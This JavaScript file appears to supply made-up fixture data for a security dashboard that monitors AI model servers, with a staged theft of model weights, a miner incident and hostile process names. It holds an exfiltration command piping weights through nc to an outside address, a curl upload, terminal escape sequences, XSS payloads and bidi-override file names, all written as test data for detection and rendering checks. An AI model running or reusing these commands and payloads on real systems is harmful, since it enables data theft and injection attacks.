// Made-up data for the fake API: one theft of weights, one miner, one page of noise, hostile names.

const minute = 60_000;
const at = (ms) => new Date(Date.now() - ms).toISOString();
export const hostile = 'curl -F x=@w \u001b[2K\u001b]0;pwned\u0007 <img src=x onerror=alert(1)> \u202egpj.sh';
const long = 'python3 -c ' + 'A'.repeat(3000);
const cid = '3f9c1d5e8a7b4c2d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f';

const process = (uid, parent_uid, pid, name, cmdline, more = {}) =>
  ({ uid, parent_uid, pid, start: at(9 * minute - pid), name, exe: '/usr/bin/' + name, cmdline, user: 'root', container: cid, ...more });

const processes = [
  process('p1', 'p0', 101, 'containerd-shim-runc-v2', 'containerd-shim-runc-v2 -namespace k8s.io', { container: '' }),
  process('p2', 'p1', 202, 'llama-server', 'llama-server -m /models/acme-7b/model.gguf --port 8080', { user: 'app' }),
  process('p3', 'p2', 303, 'sh', 'sh -c "tar cf - /models/acme-7b | nc 203.0.113.9 443"', { user: 'app' }),
  process('p4', 'p3', 304, 'tar', 'tar cf - /models/acme-7b', { user: 'app' }),
  process('p5', 'p3', 305, 'nc', 'nc 203.0.113.9 443', { exe: '/tmp/nc', drift: true, user: 'app' }),
  process('p6', 'p3', 306, 'x\u001b[31m', hostile, { user: 'app' }),
];

const techniques = [
  { framework: 'attack', id: 'T1059.004', name: 'Unix Shell', tactic: 'execution' },
  { framework: 'attack', id: 'T1005', name: 'Data from Local System', tactic: 'collection' },
  { framework: 'attack', id: 'T1048', name: 'Exfiltration Over Alternative Protocol', tactic: 'exfiltration' },
  { framework: 'atlas', id: 'AML.T0025', name: 'Exfiltration via Cyber Means', tactic: 'exfiltration' },
];

const entities = [
  { kind: 'model', id: 'gpu-1//models/acme-7b', name: 'acme-7b' },
  { kind: 'workload', id: 'w1', name: 'acme-7b' },
  { kind: 'container', id: cid, name: cid.slice(0, 12) },
  { kind: 'process', id: 'p4', name: 'tar[304]' },
  { kind: 'address', id: '203.0.113.9', name: '203.0.113.9' },
  { kind: 'user', id: 'gpu-1/app', name: 'app' },
  { kind: 'host', id: 'gpu-1', name: 'gpu-1' },
];

const told = [
  ['f1', 'high', 'A model server started a shell', 'sh was started by llama-server, which serves acme-7b', 'execution', 'p3', 'T1059.004'],
  ['f2', 'high', 'A stranger read model weights', 'tar, which is no part of the server, read /models/acme-7b/model.gguf', 'collection', 'p4', 'T1005'],
  ['f3', 'critical', 'Weights left for an outside address', 'nc sent 4.1 GB to 203.0.113.9 after weights were read', 'exfiltration', 'p5', 'T1048'],
  ['f4', 'medium', 'A name that turns a terminal', 'sh started ' + hostile, 'defense-evasion', 'p6', 'T1059.004'],
];

const row = (n, kind, message, more = {}) => ({
  _time: at(8 * minute - n * 700), _msg: message, 'event.id': 'e' + n, class: kind.split('.')[0], 'event.kind': kind, host: 'gpu-1',
  'process.name': 'tar', 'process.pid': '304', 'process.exe': '/usr/bin/tar', 'process.cmdline': 'tar cf - /models/acme-7b',
  'process.lineage': 'sh < llama-server < containerd-shim-runc-v2', 'container.id': cid, 'ai.workload.name': 'acme-7b', ...more,
});

export const events = [
  row(1, 'process.start', 'sh[303] started: sh -c "tar cf - /models/acme-7b | nc 203.0.113.9 443"', { 'process.name': 'sh' }),
  row(2, 'file.read', 'tar[304] read weights /models/acme-7b/model.gguf', { 'file.path': '/models/acme-7b/model.gguf', 'ai.model.name': 'acme-7b', 'ai.model.stranger': 'true' }),
  row(3, 'net.connect', 'nc[305] connected to 203.0.113.9:443', { 'net.remote.ip': '203.0.113.9', 'net.remote.port': '443', 'process.name': 'nc' }),
  row(4, 'net.send', 'nc[305] sent 4100000000 bytes to 203.0.113.9:443', { 'net.bytes_out': '4100000000' }),
  row(5, 'process.start', 'x\u001b[31m[306] started: ' + hostile, { 'process.cmdline': hostile }),
  row(6, 'process.start', 'python3[307] started: ' + long, { 'process.cmdline': long }),
  ...Array.from({ length: 60 }, (_, n) => row(7 + n, n % 3 ? 'file.read' : 'process.start', `worker[${400 + n}] ${n % 3 ? 'read weights shard ' + n : 'started: worker --rank ' + n}`)),
];

export const findings = told.map(([id, severity, title, summary, , , technique], n) => ({
  id, severity, summary, time: at((8 - n) * minute), host: 'gpu-1', count: n === 1 ? 412 : 1,
  rule: { id: 'r' + n, name: title.toLowerCase().replaceAll(' ', '-'), title, threat: 'steal-weights', author: 'Picket' },
  techniques: techniques.filter((t) => t.id === technique), entities, processes, events: [events[n], events[n + 1]], event_ids: ['e1', 'e2'],
  container: { id: cid, runtime: 'containerd' }, workload: { id: 'w1', kind: 'inference', engine: 'llama.cpp', name: 'acme-7b' },
  model: { path: '/models/acme-7b', name: 'acme-7b', format: 'gguf', workload: 'w1' },
}));

const steal = {
  id: 'inc-steal', title: 'Weights of acme-7b left gpu-1 for 203.0.113.9', status: 'open', severity: 'critical', risk: 94,
  first_seen: at(8 * minute), last_seen: at(5 * minute), hosts: ['gpu-1'], techniques, entities, processes, finding_count: 4, version: 4,
  summary: 'On gpu-1, the model server llama-server started a shell, which packed the weights of acme-7b with tar and sent 4.1 GB of them to 203.0.113.9 with nc, a program that was not in the image.',
  story: told.map(([finding, severity, , text, tactic], n) => ({ time: at((8 - n) * minute), text, finding, severity, tactic })),
  findings: told.map(([id, severity, title, , , proc], n) => ({ id, severity, title, rule: title, host: 'gpu-1', time: at((8 - n) * minute), process: proc, count: 1 })),
  log: [{ time: at(8 * minute), who: 'picket', what: 'opened' }, { time: at(5 * minute), who: 'picket', what: 'severity high → critical' }],
};

const small = (id, title, severity, risk, age, more = {}) => ({
  ...steal, id, title, severity, risk, first_seen: at(age * minute), last_seen: at(age * minute - 20_000), summary: title + '.', version: 1,
  techniques: techniques.slice(0, 1), story: [], findings: [], processes: [], finding_count: 1, log: [], ...more,
});

export const incidents = [
  steal,
  small('inc-mine', 'A miner runs in training job llm-pretrain', 'high', 71, 44, { hosts: ['gpu-7', 'gpu-8', 'gpu-9'], status: 'acknowledged', techniques: [{ framework: 'attack', id: 'T1496', name: 'Resource Hijacking', tactic: 'impact' }] }),
  small('inc-tamper', 'Weights of mistral-small were changed while served', 'high', 66, 190, { hosts: ['gpu-2'] }),
  small('inc-hostile', 'A process named <script>alert(1)</script> \u001b[31m\u202ella reads /etc/shadow', 'medium', 38, 400, { hosts: ['gpu-3'] }),
  small('inc-probe', 'A notebook looked at the cloud metadata address', 'low', 17, 1500, { hosts: ['nb-1'] }),
  small('inc-old', 'A package was installed in a running server', 'informational', 4, 5000, { status: 'closed', verdict: 'false_positive' }),
];

const capability = (name, ok, detail) => ({ name, ok, detail });

export const fleet = [{
  host: 'gpu-1', status: 'ok', last_seen: at(3000),
  heartbeat: {
    host: 'gpu-1', time: at(3000), version: '0.1.0', kernel: '6.8.0-45-generic', boot: 'b', started: at(90 * minute), rules: 23, rule_errors: [],
    capabilities: [
      capability('exec', true, 'tp_btf/sched_process_exec'), capability('file-read', true, 'fentry/security_file_open, model directories only'),
      capability('connect', true, 'fentry/tcp_connect'), capability('block', false, 'the kernel runs without BPF LSM (lsm= lacks bpf): an action ends processes instead of refusing the call'),
    ],
    workloads: [{ id: 'w1', kind: 'inference', engine: 'llama.cpp', name: 'acme-7b' }],
    models: [{ path: '/models/acme-7b', name: 'acme-7b', format: 'gguf', workload: 'w1' }],
  },
  counters: { events_received: 1_204_331, events_dropped: 0, ring_dropped: 12, events_sent: 88_412, findings: 4, spool_bytes: 0 },
}, { host: 'gpu-2', status: 'silent', last_seen: at(47 * minute), counters: {} }, { host: 'gpu-9', status: 'never', counters: {} }];

export const health = {
  status: 'degraded', version: '0.1.0',
  components: [
    { name: 'agent', status: 'ok', restarts: 0, lag: 0.2 }, { name: 'server', status: 'ok', restarts: 0 },
    { name: 'store', status: 'degraded', detail: 'restarted after it was ended by signal 9; events wait in the stream', restarts: 1, lag: 4.5 },
    { name: 'sink webhook', status: 'failed', detail: 'https://siem.example.org answers 503; 132 wait', restarts: 0 },
  ],
};

export const inventory = [{
  host: 'gpu-1', id: 'w-1', kind: 'inference', engine: 'vllm', version: '0.9.2', name: 'llama-3-8b', pid: 4000, processes: 3, started: at(90 * minute), exe: '/usr/bin/python3.11',
  container: { id: 'c0ffee'.repeat(10) + 'beef' }, listens: ['0.0.0.0:8000'],
  files: [
    { path: '/models/llama-3-8b/model.safetensors', role: 'model', format: 'safetensors', size: 16e9, open: true, artifact: { digest: '0f'.repeat(32), verdict: 'clean', signature: 'signed', signer: 'key sha256:0f' } },
    { path: '/models/llama-3-8b/adapter_model.bin', role: 'adapter', format: 'pickle', size: 1234, open: false, artifact: { digest: 'f0'.repeat(32), verdict: 'malicious', issue: 'Loading it calls os.system("id").', signature: 'unsigned' } },
  ],
}];
export const rules = findings.map((f) => ({ ...f.rule, level: f.severity, status: 'stable', description: f.summary, techniques: f.techniques, cost: 12, hits: 3, suppressed: 1 }))
  .concat([{ id: 'r-inactive', name: 'registry', title: 'A registry key', threat: 'sigma', level: 'high', techniques: [], inactive: 'windows/registry_event: no sensor here', cost: 0, hits: 0, suppressed: 0 }]);

export const fields = [
  ['event.kind', '', 'what happened'], ['host', 'Computer', "the host's name"], ['process.name', '', "last part of the executable's path"],
  ['process.cmdline', 'CommandLine', 'arguments joined by one space'], ['process.exe', 'Image', "executable's path"], ['container.id', 'ContainerId', 'container id'],
  ['ai.workload.name', '', 'what people call the workload'], ['ai.model.name', '', 'model name'], ['file.path', 'TargetFilename', "file's path"],
  ['net.remote.ip', '', 'address of the other end'], ['net.bytes_out', '', 'bytes sent so far'],
].map(([name, sigma, doc]) => ({ name, sigma, type: 'text', doc }));
